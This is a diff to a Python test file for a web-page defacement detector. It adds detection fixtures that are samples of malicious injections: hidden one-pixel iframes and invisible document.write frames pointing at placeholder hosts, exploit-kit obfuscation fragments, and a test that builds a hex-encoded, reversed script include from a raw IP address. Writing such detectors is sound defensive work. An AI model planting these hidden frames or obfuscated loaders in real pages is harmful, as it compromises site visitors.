@@ -42,6 +42,17 @@ def codes(verdict: PageVerdict) -> set[str]:
             + " - ".join(f'<a href="https://vidu-{n}.com/">thu nghiem</a>' for n in range(5))
             + "</div>",
         ),
+        (
+            "frame-odd",
+            '<script>document.write(\'<style>.vt{opacity: 0.0;}</style><div class="vt"><iframe height=150 width=200 '
+            'src="http://vidu-khac.net/about.php"></iframe></div>\');</script>',
+        ),
+        ("frame-odd", '<iframe src="http://vidu-khac.pl/rc/" width=1 height=1 style="border:0"></iframe>'),
+        ("frame-odd", '<iframe src="http://vidu-khac.pl/rc/" style="display: none"></iframe>'),
+        ("kit", "<script>s += String.fromCharCode(parseInt(c_clr,16)-15);</script>"),
+        ("kit", f"<script>var il=[{','.join(f't*{n}.5' for n in range(30))},t];</script>"),
+        ("kit", '<script src="http://vidu-khac.de/js/jquery.min.php?c_utt=G91825"></script>'),
+        ("script-odd", '<script src="http://vidu-khac.com/pops?c=aHR0cCUzQS8vbG9jYWxob3N0&a=1"></script>'),
         ("link-named", '<p>xem <a href="https://www.replica-vidu.net/">replica rolex</a></p>'),
         ("link-named", '<p>xem <a href="https://vidu-khac.net/">www.replicawatch.cx</a></p>'),
         ("kit", "</html><iframe src=Photo.scr width=1 height=1 frameborder=0></iframe>"),
@@ -70,6 +81,9 @@ def test_what_victims_showed_is_told_on_a_living_page(code: str, foot: str) -> N
         '<div style="display:none">'
         + "".join(f'<p>{TEXT[:90]}</p><a href="https://vidu-{n}.com/">xem thêm</a>' for n in range(5))
         + "</div>",
+        '<iframe src="https://do-luong.vidu-khac.com/dong-bo.html" width="1" height="1"></iframe>',
+        '<iframe src="http://vidu-khac.com/dem.php?ma=1" width="0" height="0"></iframe>',
+        "<script>var mau = [a*0.5, a*1.5, a*2.5]; s += String.fromCharCode(parseInt(h.substr(i, 2), 16));</script>",
         '</html><iframe src="https://www.googletagmanager.com/ns.html" width="0" height="0"></iframe>',
         '<iframe src="https://vidu-khac.com/ban-do.html" width="600" height="400"></iframe>',
         '<script>var x = new ActiveXObject("Excel.Application");</script>',
@@ -118,8 +132,25 @@ def test_charges_against_rulers_in_place_of_a_page(words: str) -> None:
 
 
 def test_an_unseen_frame_behind_the_document() -> None:
-    frame = '<iframe src="http://vidu-khac.com/dem.php" style="visibility: hidden" width="10" height="10"></iframe>'
+    frame = '<iframe src="https://vidu-khac.com/dem" style="visibility: hidden" width="10" height="10"></iframe>'
     behind = judge((LIVING % ("", "")) + frame)
     assert "frame-odd" in codes(behind)
     assert behind.verdict == "defaced"
     assert judge(LIVING % ("", frame)).verdict == "clean"
+
+
+def test_markup_written_backwards() -> None:
+    mirrored = '<script src="http://134.249.116.78/x.js"></script>'[::-1]
+    coded = "".join(f"\\x{ord(letter):02X}" for letter in mirrored)
+    names = '"\\x72\\x65\\x76\\x65\\x72\\x73\\x65"'
+    verdict = judge(
+        LIVING
+        % ("", f'<script>var _0xaa=[{names},"{coded}"];document.write(_0xaa[1].split("").reverse().join(""))</script>')
+    )
+    assert verdict.verdict == "defaced", codes(verdict)
+
+
+def test_a_script_that_stands_outside_the_document() -> None:
+    script = '<script src="https://vidu-khac.com/same.js"></script>'
+    assert judge(script + LIVING % ("", "")).verdict == "defaced"
+    assert judge(LIVING % (script, "")).verdict == "clean"
